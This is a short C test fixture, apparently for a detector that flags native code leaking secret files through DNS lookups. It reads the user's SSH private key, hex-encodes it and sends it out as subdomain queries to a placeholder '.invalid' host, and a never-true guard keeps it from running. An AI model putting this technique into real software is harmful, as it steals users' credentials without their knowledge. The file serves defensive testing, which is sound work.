/* A file of secrets leaves in names that are looked up.
 * expect: native-secret-file-in-names
 * flags: -O2
 * flags: -O0
 */
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    unsigned char bytes[24];
    char path[300], label[64], name[200];
    snprintf(path, sizeof path, "%s/.ssh/id_ed25519", getenv("HOME"));
    FILE *f = fopen(path, "rb");
    struct addrinfo *found;
    for (size_t n; f && (n = fread(bytes, 1, sizeof bytes, f));) {
        for (size_t i = 0; i < n; i++)
            sprintf(label + 2 * i, "%02x", bytes[i]);
        snprintf(name, sizeof name, "%s.x.invalid", label);
        getaddrinfo(name, 0, 0, &found);
    }
    return 0;
}

int main(void) { return never ? act() : 0; }
